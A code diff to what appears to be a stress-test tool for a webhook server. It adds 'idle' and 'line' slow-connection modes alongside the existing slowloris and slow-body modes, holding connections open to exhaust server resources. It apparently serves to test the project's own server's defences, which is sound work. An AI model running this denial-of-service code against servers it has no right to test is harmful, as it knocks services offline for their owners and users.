@@ -11,6 +11,8 @@ whenever the server closes one:
 
   slowloris  a request line, then one header line a second, never done
   crowd      connected, a request line, then nothing
+  idle       connected, then nothing at all (not even a request line)
+  line       the request line one byte a second, never done
   bodies     a whole head declaring a 25 MiB body, then 2 KiB a second; a
              quick 503 halves what the next one declares (down to 1 KiB), to
              fill a budget reserved from Content-Length exactly
@@ -76,12 +78,14 @@ class Attack:
         try:
             if self.kind in ("slowloris", "crowd"):
                 s.send(b"POST /webhooks/github HTTP/1.1\r\n")
-            else:
+            elif self.kind == "line":
+                s.send(b"P")
+            elif self.kind != "idle":
                 s.send(self.HEAD % (self.seq, self.declare))
         except OSError:
             pass
         now = time.monotonic()
-        self.live[s] = [now, now, 0]
+        self.live[s] = [now, now, 1 if self.kind == "line" else 0]
         self.opened += 1
         self.sel.register(s, selectors.EVENT_READ, self)
 
@@ -120,7 +124,11 @@ class Attack:
         now = time.monotonic()
         for s, st in list(self.live.items()):
             try:
-                if self.kind == "slowloris" and now - st[1] >= 1:
+                if self.kind == "line" and now - st[1] >= 1:
+                    line = b"POST /webhooks/github HTTP/1.1"
+                    s.send(line[st[2] % len(line):][:1])
+                    st[1], st[2] = now, st[2] + 1
+                elif self.kind == "slowloris" and now - st[1] >= 1:
                     s.send(b"X-Slow-%d: y\r\n" % int(now * 1000))
                     st[1] = now
                 elif self.kind == "bodies" and now - st[1] >= 0.25:
